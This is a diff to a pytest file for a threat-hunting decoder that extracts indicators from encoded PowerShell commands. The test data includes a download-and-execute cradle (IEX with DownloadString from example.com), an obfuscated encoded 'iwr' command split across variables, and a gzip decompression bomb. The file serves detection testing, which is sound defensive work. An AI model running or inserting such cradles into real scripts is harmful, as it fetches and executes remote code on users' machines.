@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from app.hunting.decode import Decoded, decode
+from app.hunting.decode import Decoded, decode, decode_all
 from tests.encoding import b64, deflated, gzipped, zlibbed
 
 CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')"
@@ -195,3 +195,12 @@ def test_encoded_command_torn_over_variables_is_read_whole() -> None:
     encoded = base64.b64encode("iwr 'http://example.com/a.ps1'".encode("utf-16-le")).decode()
     script = f"$a='powershell -e {encoded[:32]}';$b='{encoded[32:]}';iex ($a+$b)"
     assert list(decode(script).iocs["url"]) == ["http://example.com/a.ps1"]
+
+
+def test_many_command_lines_are_decoded_like_each_by_itself() -> None:
+    scripts = [f"$n = {n}; {CRADLE}" for n in range(70)]
+    lines = [f"powershell -enc {b64(script)}" for script in scripts]
+    bomb = base64.b64encode(gzip.compress(b"a" * (2 << 20))).decode()
+    lines[7] = f"[Convert]::FromBase64String('{bomb}')"
+    lines[9] = "powershell -enc !!!!"
+    assert list(decode_all(lines)) == [decode(line) for line in lines]
